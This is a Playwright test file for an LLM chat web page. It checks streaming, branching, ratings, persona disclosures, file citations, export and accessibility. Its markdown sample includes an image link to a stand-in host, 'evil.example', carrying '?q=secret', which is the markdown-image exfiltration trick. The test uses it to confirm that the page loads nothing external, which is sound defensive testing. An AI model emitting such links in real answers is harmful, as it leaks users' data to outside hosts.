"""The page in a browser: people write, stop, edit, compare, ask files and rate; hostile texts do nothing."""

import dataclasses
import json
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("starlette")
pytest.importorskip("llguidance")

from browsing import SIZES, keep_screenshot, serious
from serving import Client, language_model, listening, serving, until
from test_serve_models import adapter
from test_serve_page import ELEMENTS, HOSTILE

from llmjax.infer.engine import Engine

pytestmark = pytest.mark.slow

SHOWN = """# An answer
Some **bold** words, `code`, a [link](https://example.org/page) and ![a picture](https://evil.example/?q=secret).

```python
def double(x):
    return 2 * x
```

| name | value |
|------|-------|
| one  | 1     |

The sum is $\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$:

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

1. first
2. second

> quoted"""


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Client, str]]:
    model = dataclasses.replace(language_model(model__max_length=2048), adapters={"one": adapter(1)})
    folder = tmp_path_factory.mktemp("serve")
    with serving(model, feedback=folder / "preferences.jsonl") as client, listening(client) as port:
        client.chat()  # compiles
        yield client, f"http://127.0.0.1:{port}"


@pytest.fixture
def page(browser: Any, served: tuple[Client, str]) -> Iterator[Any]:
    """The page in a browser that remembers nothing. It asks nothing but its server, and its scripts do not fail."""
    with browser.new_context(viewport=SIZES["wide"]) as context:
        found, asked, failed = context.new_page(), [], []
        found.set_default_timeout(60_000)
        found.on("request", lambda request: asked.append(request.url))
        found.on("pageerror", lambda error: failed.append(str(error)))
        found.on("console", lambda message: message.type == "error" and failed.append(message.text))
        found.goto(served[1])
        shows(found.locator("#model"), "tinyone")
        yield found
        assert failed == []
        assert [url for url in asked if not url.startswith((served[1], "blob:"))] == []


def shows(locator: Any, text: str) -> None:
    """Wait until an element shows a text at its beginning."""
    from playwright.sync_api import expect

    expect(locator).to_have_text(re.compile(f"^{re.escape(text)}"), timeout=60_000)


def stream_of(text: str, *, whole: bool = True) -> str:
    """The events of an answer."""
    head = {"id": "a", "object": "chat.completion.chunk", "created": 1, "model": "tiny"}
    pieces = [text[i : i + 7] for i in range(0, len(text), 7)]
    chunks = [{**head, "choices": [{"index": 0, "delta": {"content": one}, "finish_reason": None}]} for one in pieces]
    end = [
        {**head, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
        {**head, "choices": [], "usage": {"completion_tokens": 9}},
    ]
    events = [json.dumps(one) for one in [*chunks, *(end if whole else [])]]
    return "".join(f"data: {one}\n\n" for one in [*events, *(["[DONE]"] if whole else [])])


def answering(page: Any, text: str, *, whole: bool = True) -> None:
    """Let the server answer with this text from now on."""
    page.unroute_all()
    body = stream_of(text, whole=whole)
    page.route("**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=body))


def send(page: Any, text: str) -> None:
    page.fill("#message", text)
    page.press("#message", "Enter")


def complete(page: Any) -> None:
    shows(page.locator("#status"), "answer ")


def texts(page: Any, role: str) -> list[str]:
    return page.locator(f"article.{role} .text").all_inner_texts()


def press(page: Any, name: str, nth: int = -1) -> None:
    page.get_by_role("button", name=name, exact=True).nth(nth).click()


def set_number(page: Any, name: str, value: str) -> None:
    page.fill(f"#{name}", value)
    page.dispatch_event(f"#{name}", "change")


def rows(client: Client, name: str) -> list[Any]:
    assert client.server.feedback is not None
    path = client.server.feedback.with_name(name)
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_an_answer_streams_and_stops_and_its_slot_is_free(page, served, monkeypatch):
    step = Engine.step

    def slowly(self: Engine, *arguments: Any) -> Any:
        time.sleep(0.05)
        return step(self, *arguments)

    monkeypatch.setattr(Engine, "step", slowly)
    page.click("#open-settings")
    set_number(
        page, "schema", '{"type": "string", "pattern": "^[a-z]{400}$"}'
    )  # a random model writes no text otherwise
    send(page, "hi")
    page.locator("article.assistant .text p").wait_for()
    assert page.get_attribute("#log", "aria-busy") == "true" and page.inner_text("#status") == "answering"
    assert not page.is_visible("#send")
    page.keyboard.press("Escape")
    complete(page)
    assert page.inner_text("#status") == "answer stopped" and page.is_visible("#send")
    assert until(lambda: served[0].server.worker.texts == 0)
    assert page.locator("article.assistant .tools").inner_text().count("stopped") == 1
    assert page.evaluate("document.activeElement.id") == "message"


def test_edited_and_repeated_messages_are_branches(page):
    answering(page, "first answer")
    send(page, "first")
    complete(page)
    press(page, "Edit")
    page.keyboard.type(" and more")
    answering(page, "second answer")
    page.keyboard.press("Enter")
    page.get_by_text("second answer").wait_for()
    assert texts(page, "user") == ["first and more"] and texts(page, "assistant") == ["second answer"]
    press(page, "Earlier")
    assert texts(page, "user") == ["first"] and texts(page, "assistant") == ["first answer"]
    answering(page, "third answer")
    press(page, "Again")
    page.get_by_text("third answer").wait_for()
    assert "2/2" in page.locator("article.assistant .tools").inner_text()
    page.reload()  # the browser keeps all of it
    page.click("#open-chats")
    page.locator("#chat-list button").first.click()
    assert texts(page, "assistant") == ["third answer"]
    press(page, "Earlier")
    assert texts(page, "assistant") == ["first answer"]


def test_a_cut_answer_is_kept_and_said_to_be_cut(page):
    answering(page, "half of an ans", whole=False)
    send(page, "hi")
    complete(page)
    assert page.inner_text("#error") == "the connection was cut" and texts(page, "assistant") == ["half of an ans"]
    assert "stopped" in page.locator("article.assistant .tools").inner_text()


def test_hostile_texts_run_nothing_and_load_nothing(page):
    dialogs: list[Any] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
    for text in [*HOSTILE, "\n\n".join(HOSTILE)]:
        answering(page, text)
        page.click("#open-chats")
        press(page, "New chat")
        page.click("#open-chats")
        send(page, text)
        complete(page)
        found = page.evaluate("[...document.querySelectorAll('#log .text *')].map((one) => one.localName)")
        assert set(found) <= ELEMENTS | {"button"}, text
    assert dialogs == []


def test_good_and_better_answers_become_rows(page, served):
    answering(page, "one answer")
    send(page, "hello")
    complete(page)
    press(page, "Good")
    page.get_by_text("your rating is kept").wait_for()
    assert rows(served[0], "ratings.jsonl")[-1]["label"] is True
    answering(page, "a better answer")
    press(page, "Again")
    page.get_by_text("a better answer").wait_for()
    press(page, "Best")
    page.get_by_text("your rating is kept").wait_for()
    row = rows(served[0], "preferences.jsonl")[-1]
    assert row["chosen"][0]["content"] == "a better answer" and row["rejected"][0]["content"] == "one answer"
    assert row["prompt"] == [{"role": "user", "content": "hello"}]


def test_two_models_answer_beside_each_other_and_the_choice_goes_on(page, served, tmp_path):
    page.click("#open-settings")
    page.select_option("#other", "one")
    set_number(page, "max_tokens", "12")
    set_number(page, "temperature", "0")
    send(page, "compare")
    complete(page)
    pair = page.locator(".pair article")
    assert pair.count() == 2 and pair.first.locator("h2").inner_text() == "Answer 1"  # nobody knows yet who wrote
    keep_screenshot(page, "compare", tmp_path)
    count = len(rows(served[0], "preferences.jsonl"))
    press(page, "The second is better")
    page.get_by_text("your rating is kept").wait_for()
    assert len(rows(served[0], "preferences.jsonl")) == count + 1
    assert page.locator("article.assistant h2").inner_text() == "one"
    assert "2/2" in page.locator("article.assistant .tools").inner_text()


def test_personas_are_disclosed_where_they_are_chosen_and_talk_for_so_many_turns(page, tmp_path):
    """The server's answers are given here; those of real personas are tested over HTTP."""
    told = {name: {"name": name.title(), "simulated": True, "disclosure": f"(This is a simulation of {name.title()}.)"} for name in ("ann", "ben")}  # fmt: skip
    models = [{"id": "tiny"}, *({"id": name, "persona": one} for name, one in told.items())]
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": models}))
    asked = []

    def respond(route: Any) -> None:
        body = route.request.post_data_json
        asked.append((body["model"], [(one["role"], one["content"]) for one in body["messages"]]))
        said = f"word {len(asked)}"
        persona = {**told[body["model"]], "said": said, "declined": len(asked) > 6}
        text = f"{persona['disclosure']} {said} [1]"
        chunks = [{"choices": [{"index": 0, "delta": {"content": text}}]}, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]  # fmt: skip
        events = [*(json.dumps({**one, "persona": persona}) for one in chunks), "[DONE]"]
        route.fulfill(content_type="text/event-stream", body="".join(f"data: {one}\n\n" for one in events))

    page.route("**/v1/chat/completions", respond)
    page.reload()
    shows(page.locator("#model"), "tinyann: simulates Annben: simulates Ben")
    assert page.locator("#disclosures p").count() == 0 and page.locator("#talk").is_hidden()
    page.select_option("#model", "ann")
    assert page.locator("#disclosures p").all_inner_texts() == [told["ann"]["disclosure"]]
    page.click("#open-settings")
    page.select_option("#other", "ben")
    set_number(page, "turns", "3")
    page.fill("#message", "ships")
    page.click("#talk")
    page.get_by_text("word 3").wait_for()
    complete(page)
    assert page.locator("article h2").all_inner_texts() == [
        "You",
        "ann: simulates Ann",
        "ben: simulates Ben",
        "ann: simulates Ann",
    ]
    assert asked[1:] == [
        ("ben", [("user", "word 1")]),
        ("ann", [("user", "ships"), ("assistant", f"{told['ann']['disclosure']} word 1 [1]"), ("user", "word 2")]),
    ]
    keep_screenshot(page, "personas", tmp_path)
    assert serious(page) == []
    set_number(page, "turns", "20")
    page.fill("#message", "rocks")
    page.click("#talk")
    page.get_by_text("word 8").wait_for()  # both declined
    complete(page)
    assert len(asked) == 8


def test_probabilities_stand_under_tokens_on_demand(page, tmp_path):
    page.click("#open-settings")
    page.check("#probabilities")
    set_number(page, "max_tokens", "8")
    send(page, "hi")
    complete(page)
    press(page, "Tokens")
    assert page.locator(".token").count() > 0
    page.locator(".token").first.click()
    assert page.locator(".likeliest meter").count() == 5
    keep_screenshot(page, "tokens", tmp_path)
    assert serious(page) == []
    press(page, "Tokens")
    assert page.locator(".token").count() == 0


def test_settings_belong_to_the_chat(page):
    sent: list[Any] = []
    page.route("**/v1/chat/completions", lambda route: (sent.append(route.request.post_data_json), route.continue_()))
    page.click("#open-settings")
    set_number(page, "max_tokens", "3")
    set_number(page, "top_p", "0.5")
    set_number(page, "system", "be kind")
    send(page, "hi")
    complete(page)
    assert sent[0]["max_tokens"] == 3 and sent[0]["top_p"] == 0.5
    assert sent[0]["messages"][0] == {"role": "system", "content": "be kind"}
    page.click("#open-chats")
    press(page, "New chat")
    assert page.input_value("#max_tokens") == "" and page.input_value("#system") == ""
    page.locator("#chat-list button").first.click()
    assert page.input_value("#max_tokens") == "3" and page.input_value("#system") == "be kind"


def test_questions_go_to_files_and_citations_open_their_passage(page, tmp_path):
    page.set_input_files(
        "#attached",
        [
            {"name": "notes.md", "mimeType": "text/markdown", "buffer": "The Vasa \U0001f6a2 sank in 1628.".encode()},
            {"name": "image.bin", "mimeType": "application/octet-stream", "buffer": b"\xff\xfe\x00"},
        ],
    )
    page.get_by_text("notes.md, 27 B, 27 tokens").wait_for()
    assert page.inner_text("#error") == "image.bin: this is no text in UTF-8"
    text, asked = "The Vasa \U0001f6a2 sank in 1628.", []
    citation = {
        "number": 1,
        "path": "notes.md",
        "start": 4,
        "end": 10,
        "quote": "Vasa \U0001f6a2",
        "sentence": "It sank.",
        "heading": "",
    }
    answer = {
        "answer": "It sank. [1]", "citations": [citation], "dropped": [], "refused": False, "reason": "",
        "passages": [{"path": "notes.md", "heading": "", "start": 0, "end": len(text), "text": text}],
    }  # fmt: skip
    page.route("**/ask", lambda route: (asked.append(route.request.post_data_json), route.fulfill(json=answer)))
    send(page, "When did it sink?")
    complete(page)
    assert asked[0]["files"] == [{"name": "notes.md", "text": text}]
    assert texts(page, "assistant") == ["It sank. [1]"]
    press(page, "[1] notes.md")
    assert page.inner_text(".passage") == text and page.inner_text(".passage mark") == "Vasa \U0001f6a2"
    keep_screenshot(page, "files", tmp_path)
    assert serious(page) == []
    page.unroute_all()
    send(page, "When did the Vasa sink?")  # and the server itself answers
    complete(page)
    assert len(texts(page, "assistant")) == 2 and page.inner_text("#error") == ""
    page.get_by_role("button", name="Remove notes.md").click()
    assert page.locator("#files li").count() == 0


def test_chats_are_exported_deleted_and_imported(page):
    answering(page, "kept answer")
    send(page, "kept question")
    complete(page)
    page.click("#open-chats")
    with page.expect_download() as exported:
        press(page, "Export")
    with page.expect_download() as markdown:
        press(page, "This chat as Markdown")
    content = exported.value.path().read_bytes()
    assert json.loads(content)["chats"][0]["nodes"][1]["content"] == "kept answer"
    assert "## You\n\nkept question" in markdown.value.path().read_text()
    page.once("dialog", lambda dialog: dialog.accept())
    press(page, "Delete all")
    page.locator("#chat-list li").wait_for(state="detached")
    page.set_input_files("#file", [{"name": "chats.json", "mimeType": "application/json", "buffer": content}])
    page.locator("#chat-list button").first.click()
    assert texts(page, "assistant") == ["kept answer"]
    page.set_input_files("#file", [{"name": "chats.json", "mimeType": "application/json", "buffer": b"{}"}])
    shows(page.locator("#error"), "the file cannot be read")


def test_the_keyboard_is_enough(page):
    answering(page, "an answer")
    send(page, "a question")
    complete(page)
    page.keyboard.press("ArrowUp")
    assert page.evaluate("document.activeElement.ariaLabel") == "Edited message"
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.id") == "message"
    page.keyboard.press("Shift+Enter")
    assert page.input_value("#message") == "\n"
    page.fill("#message", "")
    seen = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        seen.add(page.evaluate("document.activeElement.id || document.activeElement.textContent"))
    assert {"open-chats", "model", "open-settings", "open-help", "log", "Copy", "Again", "attach", "send"} <= seen
    page.focus("#open-help")
    page.keyboard.press("?")
    assert page.locator("dialog[open]").count() == 1
    page.keyboard.press("Escape")
    assert page.locator("dialog[open]").count() == 0
    page.focus("#log")
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "message"


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_nothing_serious_is_found_by_axe_and_nothing_is_cut_off(page, size, theme, tmp_path):
    page.set_viewport_size(SIZES[size])
    page.emulate_media(color_scheme=theme)
    answering(page, SHOWN)
    send(page, "Show me everything.")
    complete(page)
    keep_screenshot(page, f"chat-{size}-{theme}", tmp_path)
    assert serious(page) == []
    for opener in ("open-chats", "open-settings"):
        page.click(f"#{opener}")
        keep_screenshot(page, f"{opener.removeprefix('open-')}-{size}-{theme}", tmp_path)
        assert serious(page) == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        if size == "phone":
            page.click(f"#{opener}")
    small = page.evaluate(
        "[...document.querySelectorAll('button, select, input')].filter((one) => one.checkVisibility())"
        ".map((one) => [one.id || one.textContent, one.getBoundingClientRect()])"
        ".filter(([, box]) => box.height < 24 || box.width < 24).map(([name]) => name)"
    )
    assert [name for name in small if name != "probabilities"] == []


def test_the_theme_can_be_chosen(page):
    page.click("#open-settings")
    colour = "getComputedStyle(document.body).backgroundColor"
    page.select_option("#theme", "dark")
    assert page.evaluate(colour) == "rgb(22, 22, 26)"
    page.reload()
    assert page.evaluate(colour) == "rgb(22, 22, 26)"
    page.click("#open-settings")
    page.select_option("#theme", "light")
    assert page.evaluate(colour) == "rgb(255, 255, 255)"
